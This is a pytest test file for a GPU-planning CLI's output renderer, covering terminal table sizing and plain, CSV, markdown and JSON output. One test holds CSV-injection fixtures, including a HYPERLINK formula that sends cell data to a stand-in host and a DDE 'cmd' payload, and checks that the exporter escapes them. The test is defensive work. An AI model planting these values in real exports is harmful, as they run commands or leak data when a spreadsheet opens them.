"""cli/render.py: one listing, five formats; tables sized to the terminal without cutting what names a row."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path
from unittest import mock

import pytest
from rich.console import Console

from conftest import cli_in_process
from gpuplan.cli.render import Column, bullet, fit_columns, num, plain, show, table, to_csv, usd, write_json

ROWS = [{"id": "nvidia-h100-sxm5-80gb", "memory": 80.0, "price": 2.4, "note": "the SXM board, NVLink 900 GB/s"},
        {"id": "nvidia-geforce-rtx-4090", "memory": 24.0, "price": None, "note": "GeForce"}]
COLS = [Column("id", "gpu", priority=0), Column("memory", "GiB", fmt=num(), align="right"),
        Column("price", "$/h", fmt=usd, align="right", priority=2), Column("note", "note", priority=3)]


def test_narrow_terminals_drop_the_least_important_columns_first():
    # natural widths: gpu 23, GiB 3, $/h 4, note 30; each column costs 3 more, plus 1
    full = 23 + 3 + 4 + 30 + 4 * 3 + 1
    assert [c.key for c in fit_columns(ROWS, COLS, full)[0]] == ["id", "memory", "price", "note"]
    kept, dropped = fit_columns(ROWS, COLS, full - 1)
    assert [c.key for c in kept] == ["id", "memory", "price"] and [c.key for c in dropped] == ["note"]
    kept, _ = fit_columns(ROWS, COLS, 20)  # narrower than the identity itself: it still stays, whole
    assert [c.key for c in kept] == ["id"]


def test_the_identifying_column_is_never_cut():
    t, dropped = table(ROWS, COLS, width=36)
    console = Console(width=36, record=True, file=io.StringIO())
    console.print(t)
    text = console.export_text()
    assert "│ nvidia-h100-sxm5-80gb   │" in text and "│ nvidia-geforce-rtx-4090 │" in text
    assert [c.key for c in dropped] == ["price", "note"]


def test_plain_csv_markdown_and_json():
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        show(ROWS, COLS, "plain")
    assert out.getvalue().splitlines() == [
        "gpu                      GiB   $/h  note",
        "nvidia-h100-sxm5-80gb     80  2.40  the SXM board, NVLink 900 GB/s",
        "nvidia-geforce-rtx-4090   24        GeForce"]
    assert to_csv(ROWS, COLS).splitlines() == [  # raw values, not the formatted ones
        "gpu,GiB,$/h,note", 'nvidia-h100-sxm5-80gb,80.0,2.4,"the SXM board, NVLink 900 GB/s"',
        "nvidia-geforce-rtx-4090,24.0,,GeForce"]
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        show(ROWS, COLS, "markdown", notes=["1. a note"])
    assert out.getvalue().splitlines()[:2] == ["| gpu | GiB | $/h | note |", "|---|---:|---:|---|"]
    assert out.getvalue().splitlines()[-1] == "1. a note"


def test_json_is_strict():
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        write_json({"a": float("nan"), "b": [float("inf"), 1.5], "c": {"d": -float("inf")}})
    assert json.loads(out.getvalue()) == {"a": None, "b": [None, 1.5], "c": {"d": None}}
    assert "NaN" not in out.getvalue() and "Infinity" not in out.getvalue()


def test_bullets_wrap_with_a_hanging_indent():
    console = Console(width=40, record=True, file=io.StringIO())
    bullet("one two three four five six seven eight nine ten eleven twelve", prefix="  - ", stream=console)
    assert console.export_text().splitlines() == ["  - one two three four five six seven",
                                                  "    eight nine ten eleven twelve"]


def cli(*args: str, columns: int = 80) -> subprocess.CompletedProcess:
    """``gpuplan ARGS`` in this process (conftest.cli_in_process) at ``columns`` (each command sizes its consoles by
    ``COLUMNS`` as it starts: test_each_command_reads_columns_as_it_starts)."""
    with mock.patch.dict(os.environ, {"COLUMNS": str(columns)}):
        return cli_in_process(*args)


@pytest.mark.parametrize("args, identities", [
    (("models",), ["llama-3.1-8b", "llama-3-8b", "r1-distill-llama-70b", "mixtral-8x22b"]),
    (("gpus", "--min-memory", "40", "--sort", "usd_per_tflop"), ["rtx-pro-6000-blackwell", "a100-sxm4-80gb",
                                                                  "h100-sxm", "gh200-144gb"]),
    (("prices", "--provider", "aws"), ["a100-sxm4-80gb", "h100-sxm", "a10g", "aws"]),
])
def test_80_columns_show_every_identity_whole(args, identities):
    done = cli(*args)
    assert done.returncode == 0, done.stderr
    assert max(len(line) for line in done.stdout.splitlines()) <= 80
    for name in identities:
        assert f"│ {name} " in done.stdout, name


@pytest.mark.parametrize("command", [["models"], ["gpus"], ["gpus", "compare", "4090", "l40s"],
                                     ["cost", "--model", "qwen2.5-0.5b", "--task", "infer"],
                                     ["recommend", "--model", "qwen2.5-0.5b", "--task", "infer", "--top", "3"],
                                     ["fit", "--gpu", "rtx-4090", "--all"], ["table", "--no-cheapest"],
                                     ["prices", "--gpu", "l40s"]])
def test_every_listing_takes_every_format(command):
    for fmt in ("plain", "csv", "markdown", "json"):
        done = cli(*command, "--format", fmt)
        assert done.returncode == 0, (fmt, done.stderr)
        if fmt == "json":
            json.loads(done.stdout)
        elif fmt == "csv":
            assert "," in done.stdout.splitlines()[0]
        elif fmt == "markdown":
            assert any(line.startswith("|---") for line in done.stdout.splitlines())


def test_error_text_keeps_its_brackets():
    """rich markup used to eat [q_proj, v_proj] and the [sim] / [hub] of install hints."""
    done = cli("estimate", "--model", "gpt2", "--task", "train", "--method", "lora", "--lora-targets", ",")
    assert done.returncode == 2 and "like [q_proj, v_proj]" in done.stderr
    assert done.stderr.count("\n") == 1


def test_each_command_reads_columns_as_it_starts(monkeypatch):
    """Rich reads COLUMNS once, when a console is made: a process that imported gpuplan under one width (here 100,
    as a wide test or shell left it) and then runs a command at 80 columns must get 80, not the import's width (the
    capacity table came out 99 wide this way)."""
    from typer.testing import CliRunner

    from gpuplan.cli import app, render

    monkeypatch.setattr(render.out, "width", 100)  # as if made while COLUMNS was 100
    r = CliRunner().invoke(app, ["estimate", "--model", "llama-3.1-8b", "--task", "train", "--gpu", "rtx-4090",
                                 "--method", "qlora"], env={"COLUMNS": "80"})
    assert r.exit_code == 0, r.output
    assert max(len(line) for line in r.output.splitlines()) <= 80
    r = CliRunner().invoke(app, ["estimate", "--model", "llama-3.1-8b", "--task", "train", "--gpu", "rtx-4090",
                                 "--method", "qlora"], env={"COLUMNS": "120"})
    assert max(len(line) for line in r.output.splitlines()) > 80  # the table and the wrapped lines use the room


@pytest.mark.parametrize("args", [["models", "--format", "csv", "--json"], ["models", "--json", "--format", "csv"],
                                  ["gpus", "--format", "plain", "--json"], ["table", "--markdown", "--format", "csv"]])
def test_two_formats_asked_at_once_are_refused(args, capsys):
    """fuzz-report-3 N5: `--format csv --json` printed CSV, so a script that adds --json got no JSON."""
    from gpuplan.cli import run

    code = run(args)
    captured = capsys.readouterr()
    assert code == 2 and captured.out == "" and captured.err.count("\n") == 1
    assert "ask for two formats: give one (--json is --format json)" in captured.err


def _commands_with_two_format_flags() -> list[tuple[str, ...]]:
    """Every command taking both --format and --json, read off the CLI's tree."""
    import typer.main

    from gpuplan.cli import app

    found = []

    def walk(cmd, path):  # click's own listing: the root loads its commands when they are listed (cli.commands)
        if hasattr(cmd, "list_commands"):
            ctx = cmd.context_class(cmd)
            for name in sorted(cmd.list_commands(ctx)):
                walk(cmd.get_command(ctx, name), (*path, name))
        opts = {o for p in cmd.params for o in getattr(p, "opts", ())}
        if {"--format", "--json"} <= opts:
            found.append(path)

    walk(typer.main.get_command(app), ())
    assert len(found) >= 7, found  # the walk reached the commands (estimate, recommend, fit, capacity...)
    return found


NEEDS = {("gpus", "compare"): ["a100", "4090"], ("calibrate",): ["tests/data/fuzz/records/ok.json"],
         ("capacity",): ["--model", "gpt2", "--rate", "1", "--preset", "chat"], ("fit",): ["--gpu", "a100"],
         ("recommend",): ["--model", "gpt2", "--task", "infer"], ("cost",): ["--model", "gpt2", "--task", "infer"],
         ("estimate",): ["--model", "gpt2", "--task", "infer", "--gpu", "a100"], ("buy",): ["2x4090", "--hours", "100"]}


@pytest.mark.parametrize("path", _commands_with_two_format_flags())
def test_two_formats_are_refused_before_anything_is_said(path, capsys, monkeypatch):
    """`gpus compare --format csv a100 --json` printed its note on a100 before refusing (the fuzzer), and capacity,
    recommend and fit ran their whole search first: every command refuses two formats before any work (the
    search would fail the test) and says nothing else."""
    import gpuplan.api
    from gpuplan.cli import run

    for name in ("capacity", "recommend", "fit", "cost", "buy"):
        monkeypatch.setattr(gpuplan.api, name, lambda *a, **k: pytest.fail("worked before the format was checked"))
    monkeypatch.chdir(Path(__file__).resolve().parents[2])
    code = run([*path, *NEEDS.get(path, []), "--format", "csv", "--json"])
    captured = capsys.readouterr()
    assert code == 2 and captured.out == "" and captured.err.count("\n") == 1, captured
    assert "ask for two formats" in captured.err
    assert len(_commands_with_two_format_flags()) >= 10


def test_json_asked_twice_is_json(capsys):
    from gpuplan.cli import run

    assert run(["models", "--json", "--format", "json"]) == 0
    assert isinstance(json.loads(capsys.readouterr().out), list)


def test_plain_wraps_text_columns_to_the_width():
    """A text cell wider than the room wraps onto the lines below, in its column; names and numbers keep their
    width (the review's `fit --format plain` had a ~200-character column)."""
    text = plain(ROWS, COLS, width=50)
    assert text.splitlines() == [
        "gpu                      GiB   $/h  note",
        "nvidia-h100-sxm5-80gb     80  2.40  the SXM board,",
        "                                    NVLink 900",
        "                                    GB/s",
        "nvidia-geforce-rtx-4090   24        GeForce"]
    assert plain(ROWS, COLS, width=200) == plain(ROWS, COLS, width=66)  # room enough: one line a row
    assert len(plain(ROWS, COLS, width=65).splitlines()) == 4
    # one block down to the text's least width (its longest word, or 12): 23 + 3 + 4 + 12 and the gaps
    least = 23 + 2 + 3 + 2 + 4 + 2 + 12
    assert "\n\n" not in plain(ROWS, COLS, width=least) != plain(ROWS, COLS, width=least + 1)
    assert "\n\n" in plain(ROWS, COLS, width=least - 1)


def test_plain_goes_on_in_a_second_block_rather_than_past_the_width():
    """Review 3 (Q2): `capacity --format plain` ran to 155 columns (15 columns of numbers, none can wrap). Columns
    that do not fit go on below, after the identity column again; no line is wider than the room unless a name
    alone is."""
    text = plain(ROWS, COLS, width=45)
    assert text.splitlines() == [
        "gpu                      GiB   $/h",
        "nvidia-h100-sxm5-80gb     80  2.40",
        "nvidia-geforce-rtx-4090   24",
        "",
        "gpu                      note",
        "nvidia-h100-sxm5-80gb    the SXM board,",
        "                         NVLink 900 GB/s",
        "nvidia-geforce-rtx-4090  GeForce"]
    # narrower than a name and one column: each block that name and one column at its least width (12 for text)
    assert max(len(x) for x in plain(ROWS, COLS, width=30).splitlines()) <= 23 + 2 + 12
    assert plain(ROWS, COLS, width=30).count("\ngpu ") == 2  # three blocks: GiB, $/h, note


def test_fit_plain_rows_fit_120_columns_unless_a_name_is_longer(monkeypatch):
    """issue 35: every line of `fit --format plain` within 120 characters in a pipe (no COLUMNS), except one
    whose model name alone is longer; the wrapped lines keep every word of the verdicts."""
    env = {k: v for k, v in os.environ.items() if k != "COLUMNS"}
    done = subprocess.run([sys.executable, "-m", "gpuplan", "fit", "--gpu", "2x3090", "--format", "plain"],
                          capture_output=True, text=True, env=env)
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    over = [x for x in lines if len(x) > 120 and len(x.split()[0]) <= 120]
    assert over == [] and len(lines) > 60
    wrapped = [x for x in lines if x.startswith(" " * 20) and x.strip()]
    assert wrapped, "no verdict needed wrapping: the test would not see a long column"
    csv_rows = subprocess.run([sys.executable, "-m", "gpuplan", "fit", "--gpu", "2x3090", "--format", "csv"],
                              capture_output=True, text=True, env=env).stdout
    verdicts = [row["fits"] for row in csv.DictReader(io.StringIO(csv_rows))]
    assert len(verdicts) > 60
    assert set(" ".join(verdicts).split()) <= set(done.stdout.split())


@pytest.mark.parametrize("engine, extra, said", [
    ("trtllm", ["--batch-size", "32", "--max-num-seqs", "8"], "(TensorRT-LLM runs at most 8 (max_batch_size))"),
    ("vllm", ["--batch-size", "32", "--max-num-seqs", "8"], "(vLLM runs at most 8 (max_num_seqs))"),
    ("sglang", ["--batch-size", "5000"], "(SGLang runs at most 4,096 (max_running_requests))"),
])
def test_the_offline_line_names_the_engines_own_cap(engine, extra, said):
    """An offline batch held back by the engine's cap on running requests names that engine's setting (its
    profile's running_cap); it said max_num_seqs for every engine."""
    from typer.testing import CliRunner

    from gpuplan.cli import app

    r = CliRunner().invoke(app, ["estimate", "--model", "qwen2.5-0.5b", "--task", "infer", "--engine", engine, "--gpu",
                                 "h100", "--prompt-tokens", "128", "--output-tokens", "16", *extra],
                           env={"COLUMNS": "400"})
    assert r.exit_code == 0, r.output
    assert said in r.output


def test_a_speed_below_ten_tokens_per_second_keeps_two_digits(capsys):
    """Session 8's walk: Llama-3.1-405B from system RAM on an RTX 4080 (llama.cpp, 125 of 126 layers on the CPU)
    read "0 output tokens/s in all (likely 0-0) ... each user streams 0 tokens/s" beside a 16.6 s decode step. Speeds
    below 10 tokens/s keep two significant digits: 1 / 16.6 s = 0.06 tokens/s."""
    from gpuplan.cli import run

    code = run(["estimate", "--model", "llama-3.1-405b", "--task", "infer", "--engine", "llama.cpp", "--gpu", "4080",
                "--cpu-layers", "true", "--host-ram-gib", "768"])
    text = " ".join(capsys.readouterr().out.split())
    assert code == 0
    # the range's ends move with the llama.cpp bands (0.05-0.073 before session 9's merges, 0.049-0.076 after
    # session 17's held-out rows): each end keeps its two significant digits
    assert re.search(r"speed: 0\.059 output tokens/s in all \(likely 0\.0[1-9]\d?-0\.0[1-9]\d?\)", text), text[:300]
    # the step is the CPU's layers' (16.62 s); the one layer on the card moves its last digits with llama.cpp's
    # kernel cost (16,624.1 ms before session 18's kernel count, 16,623.7 after)
    assert re.search(r"each user streams 0\.06 tokens/s \(decode step, TPOT 16,62\d\.\d ms", text), text[:400]


def test_counts_and_times_past_a_thousand_are_written_with_commas(capsys):
    """Qwen3-VL-235B on 8 MI300X read 'largest batch that fits: 1949' under 'up to 1,949 concurrent requests', and a
    16.6 s decode step 'TPOT 16624.1 ms' (above): every count and time of the estimate's text takes its commas."""
    from gpuplan.cli import run

    code = run(["estimate", "--model", "qwen3-0.6b", "--task", "infer", "--engine", "vllm", "--gpu", "h100-sxm",
                "--prompt-tokens", "128", "--output-tokens", "64"])
    text = " ".join(capsys.readouterr().out.split())
    assert code == 0
    most = text.split("largest batch that fits: ")[1].split(";")[0]
    assert re.fullmatch(r"\d{1,3}(,\d{3})+", most), most  # 1,000 or more, with its commas


def test_a_small_host_memory_is_not_printed_as_zero(capsys):
    """Falcon-H1-0.5B Q8_0 on an M4 (llama.cpp keeps its 0.03 GiB token embedding in host memory) read 'CPU memory
    for offloaded states: 0.0 GiB': below 1 GiB the line keeps two decimals (the page alike)."""
    from gpuplan.cli import run

    code = run(["estimate", "--model", "falcon-h1-0.5b", "--task", "infer", "--engine", "llama.cpp", "--quant",
                "q8_0", "--gpu", "apple-m4"])
    out = capsys.readouterr().out
    assert code == 0 and "CPU memory for offloaded states: 0.03 GiB" in out, out


def test_fit_says_apart_the_models_left_out_as_too_big_and_those_refused(monkeypatch, capsys):
    """The outside fuzzer's session 17: fit with an SDXL draft model said "92 more do not fit even with changes";
    each of the 92 was refused (the draft is a diffusion pipeline), which --all said row by row: now that one reason
    is one sentence at exit 2 (issue 30). With MTP asked, the 9 bundled checkpoints that carry MTP layers plan (none
    fits a 4090) and the rest are refused."""
    from gpuplan.cli import run

    monkeypatch.setenv("COLUMNS", "200")
    assert run(["fit", "--gpu", "rtx-4090", "--task", "infer", "--engine", "vllm", "--speculative-method", "draft",
                "--draft-model", "sdxl", "--acceptance-length", "2"]) == 2
    captured = capsys.readouterr()
    assert not captured.out and captured.err.count("\n") == 1, captured
    assert captured.err.startswith("error: draft_model sdxl: stabilityai/stable-diffusion-xl-base-1.0 is a diffusion "
                                   "pipeline"), captured.err
    assert run(["fit", "--gpu", "rtx-4090", "--task", "infer", "--engine", "vllm", "--speculative-method", "mtp"]) == 0
    out = " ".join(capsys.readouterr().out.split())
    assert "9 more do not fit even with changes on these cards; 83 are refused as asked; --all lists them" in out


def test_fit_headline_counts_apart_the_models_that_need_a_change(monkeypatch, capsys):
    """Review 3 s27: fit's headline "61 of 92 bundled models fit 1 x GeForce RTX 4090" for serving counted the 27
    that fit only as AWQ 4-bit weights with those that fit as asked. The headline says the two apart, each count
    read off the rows (one kind of change named; several: the fits column names each)."""
    from gpuplan import api
    from gpuplan.cli import run

    monkeypatch.setenv("COLUMNS", "300")
    rows = api.fit("rtx-4090").rows
    asked, changed = sum(r.fits and not r.change for r in rows), [r.change for r in rows if r.fits and r.change]
    assert asked and set(changed) == {"AWQ 4-bit weights"}
    assert run(["fit", "--gpu", "rtx-4090"]) == 0
    out = " ".join(capsys.readouterr().out.split())
    assert (f"{asked} of {len(rows)} bundled models fit 1 x GeForce RTX 4090 as asked; {len(changed)} more fit "
            "with a change (AWQ 4-bit weights)") in out
    assert run(["fit", "--gpu", "rtx-4090", "--task", "train", "--method", "qlora"]) == 0
    assert "more fit with a change (the fits column names each)" in " ".join(capsys.readouterr().out.split())


def test_fit_json_carries_the_headlines_counts(capsys):
    """s27 walk, "Left": fit's JSON had no field for "as asked". The answer carries both counts (the headline reads
    them), equal to the rows read by hand, in the API's answer and in ``fit --json``."""
    import json

    from gpuplan import api
    from gpuplan.cli import run

    report = api.fit("rtx-4090", task="train", method="qlora")
    asked = sum(r.fits and not r.change for r in report.rows)
    changed = sum(r.fits and bool(r.change) for r in report.rows)
    assert asked and changed and (report.fit_as_asked, report.fit_with_change) == (asked, changed)
    assert run(["fit", "--gpu", "rtx-4090", "--task", "train", "--method", "qlora", "--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert (data["fit_as_asked"], data["fit_with_change"]) == (asked, changed)


def test_text_a_spreadsheet_would_run_is_written_as_text():
    """Session 18's security audit: a price list's region '=1+1' or instance '+1+cmd|...' came out of
    `--format csv` as written, and a spreadsheet opening it ran them as formulas (OWASP's CSV injection); now a
    ' goes before such text, and numbers (and numbers written as text) stay as they are."""
    cols = [Column("a", "a"), Column("b", "b")]
    rows = [{"a": '=HYPERLINK("http://x.example/?"&A1,"x")', "b": "+1+cmd|' /C calc'!A0"},
            {"a": "@SUM(1,1)", "b": "-2+3"}, {"a": "\tx", "b": "-1.5"}, {"a": -2.0, "b": "a=1"}]
    assert list(csv.reader(io.StringIO(to_csv(rows, cols)))) == [
        ["a", "b"], ['\'=HYPERLINK("http://x.example/?"&A1,"x")', "'+1+cmd|' /C calc'!A0"],
        ["'@SUM(1,1)", "'-2+3"], ["'\tx", "-1.5"], ["-2.0", "a=1"]]


def test_capacity_says_a_widened_band_once_with_what_it_adds():
    """Session 22's walk: `capacity --gpus h100-sxm,mi300x` printed the NVIDIA decode band twice, the second time
    with the ROCm widening at its end; now the base once and the widening as what it adds."""
    from types import SimpleNamespace

    import gpuplan
    from gpuplan.cli.capacity import _bands_said

    job = {"model": "llama-3.2-1b", "task": "infer", "engine": "vllm"}
    plans = [SimpleNamespace(plan=gpuplan.estimate({**job, "gpu": g}, advise=False)) for g in ("h100-sxm", "mi300x")]
    base = plans[0].plan.speed.band
    said = _bands_said(plans)
    assert said == (f" Decode steps' band: {base}. Rows on other vendors' cards: the same band, widened by +-11% for "
                    "the ROCm build's measured share (bench/results/rocm_dense.md) (widened: other vendor).")
    assert said.count(base) == 1


def test_launch_summary_wraps_under_its_own_indent_at_80_columns(tmp_path, monkeypatch, capsys):
    """s27 walk: at 80 columns launch's summary of the plan ("Qwen/Qwen3-8B, micro-batch 1 x 5,819 tokens x
    accumulation 16 x 1 / data-parallel, ...") broke at the terminal's margin with no indent, so a wrapped line read
    as the next item. Each line is wrapped under its own indent: the plan's line under its two spaces, a recipe
    item's under its four."""
    from gpuplan.cli import run

    monkeypatch.setenv("COLUMNS", "80")
    assert run(["launch", "--model", "qwen3-8b", "--task", "train", "--method", "lora", "--gpu", "rtx-4090",
                "--grad-checkpointing", "full", "-o", str(tmp_path / "out")]) == 0
    lines = capsys.readouterr().out.splitlines()
    start = next(i for i, x in enumerate(lines) if x.startswith("  Qwen/Qwen3-8B, micro-batch"))
    assert lines[start + 1].startswith("    ") and "data-parallel" in lines[start] + lines[start + 1]
    assert all(len(x.rstrip()) <= 80 for x in lines[start:])
    item = next(i for i, x in enumerate(lines) if x.startswith("  global batch:"))
    assert lines[item + 1].startswith("    ") and not lines[item + 1].startswith("     ")
